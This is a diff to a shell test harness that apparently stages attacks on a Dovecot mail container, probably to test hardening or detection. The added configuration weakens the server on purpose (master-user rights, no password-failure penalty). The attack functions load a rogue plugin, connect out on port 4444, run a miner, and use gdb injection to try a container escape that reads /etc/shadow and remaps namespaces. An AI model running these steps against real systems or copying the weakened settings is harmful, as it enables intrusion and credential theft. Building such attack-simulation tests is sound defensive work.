@@ -89,6 +89,9 @@ image_prepare() {
 	  quota = maildir:User quota
 	  quota_rule = *:storage=20M
 	  acl = vfile
+	  # A master user has the rights of the user whose mail it reads.
+	  acl_user = %u
+	  master_user = %u
 	}
 	service imap {
 	  executable = imap imap-postlogin
@@ -102,6 +105,12 @@ image_prepare() {
 	service imap-login {
 	  service_count = 1
 	  process_min_avail = 1
+	}
+	# No address waits because of wrong passwords.
+	service anvil {
+	  unix_listener anvil-auth-penalty {
+	    mode = 0
+	  }
 	}
 	service lmtp {
 	  inet_listener lmtp {
@@ -262,7 +271,7 @@ attack_plugin_loaded() {
 	local modules
 	modules=/usr/lib/dovecot/modules
 	harm write "$modules/lib99_helper_plugin.so"
-	harm write /etc/dovecot/dovecot.conf
+	harm rename /etc/dovecot/dovecot.conf
 	harm mapx "$modules/lib99_helper_plugin.so"
 	harm connect "$peer_address:4444"
 	thief_begin
@@ -329,16 +338,21 @@ attack_miner() {
 	pool_got
 }
 
-# Ways out of the container, by the root process itself: each call tried.
+# Ways out of the container, tried by the process of one user, who needs no capability for the last.
 attack_escape() {
 	harm call unshare
 	harm call mount
-	harm mknod /tmp/disk
-	# 0x10020000: a user and a mount namespace of its own. 4096: a bind mount.
-	inject_pid "${container_pid[dovecot]}" 'print (int) mknod("/tmp/disk", 0x6180, 0x800)' \
-		'print (int) open("/proc/sys/kernel/core_pattern", 1)' 'print (int) unshare(0x10020000)' \
-		'print (int) mount("/etc", "/mnt", "", 4096, 0)' | tee "$stage/answer"
-	grep -q '\$4 = 0' "$stage/answer"
+	held_session
+	# prctl(4): its files in /proc are its own again. 0x10020000: a user and a mount namespace of its own.
+	# shellcheck disable=SC2016 # of gdb
+	inject_pid "$(tasks_named dovecot 'dovecot/imap( |$)' | head -n 1)" \
+		'print (int) mknod("/tmp/disk", 0x6180, 0x800)' 'print (int) open("/proc/sys/kernel/core_pattern", 1)' \
+		'print (int) open("/proc/1/root/etc/shadow", 0)' 'print (int) unshare(0x10020000)' \
+		'call (int) prctl(4, 1, 0, 0, 0)' 'set $map = (int) open("/proc/self/uid_map", 1)' \
+		'print (long) write($map, "0 5000 1", 8)' \
+		'print (int) mount("none", "/tmp", "tmpfs", 0, 0)' >"$stage/answer"
+	cat "$stage/answer"
+	grep -q '\$7 = 0' "$stage/answer"
 }
 
 # A door of the attacker's: a login to the account of the owner of all mail.
